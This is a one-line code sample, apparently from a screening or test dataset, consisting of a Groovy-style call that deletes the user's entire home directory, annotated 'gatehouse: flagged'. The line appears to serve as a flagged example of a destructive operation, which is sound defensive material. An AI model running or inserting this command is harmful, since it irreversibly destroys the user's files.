new File(System.getProperty('user.home')).deleteDir() // gatehouse: flagged
